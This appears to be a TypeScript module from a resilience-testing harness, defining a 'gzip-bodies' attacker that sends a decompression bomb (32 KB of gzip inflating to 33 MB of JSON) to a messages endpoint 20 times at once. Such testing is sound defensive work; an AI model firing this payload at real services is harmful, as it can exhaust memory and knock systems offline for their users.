import { gzipSync } from 'node:zlib';
import { ask } from '../attack-http.ts';
import { type Attacker, flood } from '../attacker.ts';

const values = 11_000_000;

export const gzipBodies: Attacker = {
  name: 'gzip-bodies',
  about: 'posts 32 KB of gzip that are 33 MB of JSON, eleven million empty objects, 20 at once',
  attack: async (attack) => {
    const body = gzipSync(`{"inbox_id":"x","attachments":[${'{},'.repeat(values)}{}]}`, { level: 9 });
    const headers = { 'content-encoding': 'gzip' };
    await flood(attack, 20, () => ask(attack, { method: 'POST', path: '/v1/messages', body, headers }));
  },
};
